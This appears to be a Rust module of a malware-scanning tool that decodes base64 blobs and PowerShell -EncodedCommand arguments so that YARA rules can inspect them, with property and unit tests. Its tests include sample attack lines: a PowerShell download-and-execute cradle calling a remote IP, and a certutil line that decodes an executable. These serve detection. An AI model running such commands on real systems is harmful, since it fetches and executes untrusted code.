//! Content hidden in command lines, decoded so YARA sees it: PowerShell
//! `-EncodedCommand` arguments (base64 of UTF-16LE text) and other base64 blobs.
//!
//! A blob is a run of at least [`MIN_BLOB`] base64 characters (with optional `=`
//! padding) that decodes cleanly. An `-e`, `-enc`, `-encodedcommand` (any prefix of
//! it, any case, `-` or `/`) argument is decoded as UTF-16LE into UTF-8 text; other
//! blobs are scanned as the bytes they decode to. At most [`MAX_BLOBS`] per value.

use base64::Engine;

/// Shortest run of base64 characters taken for a blob.
pub(crate) const MIN_BLOB: usize = 24;
/// Most blobs decoded from one value.
pub(crate) const MAX_BLOBS: usize = 8;

/// How a blob was decoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Decoding {
    /// A PowerShell encoded command: base64 of UTF-16LE.
    EncodedCommand,
    /// Plain base64.
    Base64,
}

impl Decoding {
    /// Label used in alerts (`field(label)`).
    pub(crate) fn label(self) -> &'static str {
        match self {
            Self::EncodedCommand => "encodedcommand",
            Self::Base64 => "base64",
        }
    }
}

/// Per byte, whether it is a base64 character (a table: this runs over every byte of
/// every scanned value).
const BASE64_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        table[c] = b.is_ascii_alphanumeric() || b == b'+' || b == b'/';
        c += 1;
    }
    table
};

fn is_b64(c: u8) -> bool {
    BASE64_BYTES[c as usize]
}

/// Whether `word` is a PowerShell `-EncodedCommand` switch: any prefix of it from `-e`,
/// or its alias `-ec`, any case, with `-` or `/`.
fn is_encoded_switch(word: &str) -> bool {
    let Some(name) = word.strip_prefix('-').or_else(|| word.strip_prefix('/')) else {
        return false;
    };
    let name = name.to_ascii_lowercase();
    name == "ec" || (!name.is_empty() && "encodedcommand".starts_with(&name))
}

/// The next run of base64 characters at or after `from` (where no run is under way) that
/// could make a blob with its padding: `MIN_BLOB - 2` long at least, as (start, end).
/// It looks at one byte in `MIN_BLOB - 2` where no such run is: text between blobs
/// (paths, words) is passed over without reading each byte.
fn next_run(bytes: &[u8], mut from: usize) -> Option<(usize, usize)> {
    const CORE: usize = MIN_BLOB - 2;
    while from + CORE <= bytes.len() {
        let probe = from + CORE - 1;
        if !is_b64(bytes[probe]) {
            from = probe + 1;
            continue;
        }
        let mut start = probe;
        while start > from && is_b64(bytes[start - 1]) {
            start -= 1;
        }
        let mut end = probe + 1;
        while end < bytes.len() && is_b64(bytes[end]) {
            end += 1;
        }
        if end - start >= CORE {
            return Some((start, end));
        }
        from = end;
    }
    None
}

/// The decoded blobs of `text`.
pub(crate) fn blobs(text: &str) -> Vec<(Decoding, Vec<u8>)> {
    let mut out = Vec::new();
    let bytes = text.as_bytes();
    let mut i = 0;
    while out.len() < MAX_BLOBS {
        let Some((start, core_end)) = next_run(bytes, i) else {
            break;
        };
        let mut end = core_end;
        while end < bytes.len() && bytes[end] == b'=' && end - core_end < 2 {
            end += 1;
        }
        let run = &text[start..end];
        i = end;
        if run.len() < MIN_BLOB {
            continue;
        }
        let Ok(decoded) = base64::engine::general_purpose::STANDARD
            .decode(run)
            .or_else(|_| {
                base64::engine::general_purpose::STANDARD_NO_PAD.decode(run.trim_end_matches('='))
            })
        else {
            continue;
        };
        let before = text[..start].trim_end();
        let switch = before.rsplit(char::is_whitespace).next().unwrap_or("");
        if is_encoded_switch(switch) && decoded.len() % 2 == 0 {
            let units: Vec<u16> = decoded
                .chunks_exact(2)
                .map(|p| u16::from_le_bytes([p[0], p[1]]))
                .collect();
            out.push((
                Decoding::EncodedCommand,
                String::from_utf16_lossy(&units).into_bytes(),
            ));
        } else {
            out.push((Decoding::Base64, decoded));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    /// The maximal runs of base64 characters of `text` with up to two `=` after, read
    /// byte by byte: what [`blobs`] must find its blobs in.
    fn runs_read_byte_by_byte(text: &str) -> Vec<&str> {
        let bytes = text.as_bytes();
        let mut out = Vec::new();
        let mut i = 0;
        while i < bytes.len() {
            if !is_b64(bytes[i]) {
                i += 1;
                continue;
            }
            let start = i;
            while i < bytes.len() && is_b64(bytes[i]) {
                i += 1;
            }
            let mut end = i;
            while end < bytes.len() && bytes[end] == b'=' && end - i < 2 {
                end += 1;
            }
            out.push(&text[start..end]);
            i = end;
        }
        out
    }

    /// The runs the skipping search finds, with their padding.
    fn runs_found(text: &str) -> Vec<&str> {
        let bytes = text.as_bytes();
        let mut found = Vec::new();
        let mut i = 0;
        while let Some((start, end)) = next_run(bytes, i) {
            let mut padded = end;
            while padded < bytes.len() && bytes[padded] == b'=' && padded - end < 2 {
                padded += 1;
            }
            found.push(&text[start..padded]);
            i = padded;
        }
        found
    }

    /// Those long enough for a blob, read byte by byte.
    fn runs_expected(text: &str) -> Vec<&str> {
        runs_read_byte_by_byte(text)
            .into_iter()
            .filter(|r| r.trim_end_matches('=').len() >= MIN_BLOB - 2)
            .collect()
    }

    proptest! {
        /// The skipping search finds every run long enough for a blob, and no other:
        /// on text of long runs, and on runs of any length between separators.
        #[test]
        fn runs_are_found_as_a_byte_by_byte_reading_finds_them(
            long in "[a-zA-Z0-9+/= .\\\\-]{0,200}",
            short in "([a-zA-Z0-9+/]{0,30}[ =.\\\\-]{1,3}){0,12}",
        ) {
            prop_assert_eq!(runs_found(&long), runs_expected(&long));
            prop_assert_eq!(runs_found(&short), runs_expected(&short));
        }
    }

    fn b64(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn encoded_commands_decode_from_utf16() {
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        for switch in ["-EncodedCommand", "-enc", "/e", "-ENCODEDCOMMAND", "-ec"] {
            let line = format!("powershell.exe -NoP {switch} {}", b64(&utf16));
            let found = blobs(&line);
            assert_eq!(found.len(), 1, "{switch}");
            assert_eq!(found[0].0, Decoding::EncodedCommand, "{switch}");
            assert_eq!(String::from_utf8_lossy(&found[0].1), script);
        }
    }

    #[test]
    fn plain_blobs_decode_and_short_or_broken_runs_do_not() {
        let payload = b"MZ\x90\x00 this program cannot be run in DOS mode";
        let line = format!("cmd /c echo {} > x.bin && certutil -decode", b64(payload));
        let found = blobs(&line);
        assert_eq!(found, vec![(Decoding::Base64, payload.to_vec())]);
        assert!(blobs("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe").is_empty());
        assert!(blobs("short dGVzdA== only").is_empty());
        let args = format!("powershell -ExecutionPolicy Bypass {}", b64(payload));
        assert_eq!(
            blobs(&args)[0].0,
            Decoding::Base64,
            "-ExecutionPolicy is not -EncodedCommand"
        );
        assert!(
            blobs(&"A".repeat(25)).is_empty(),
            "not a multiple of four, no padding fits"
        );
        let many: String = (0..20).map(|_| format!("{} ", b64(payload))).collect();
        assert_eq!(blobs(&many).len(), MAX_BLOBS);
    }
}
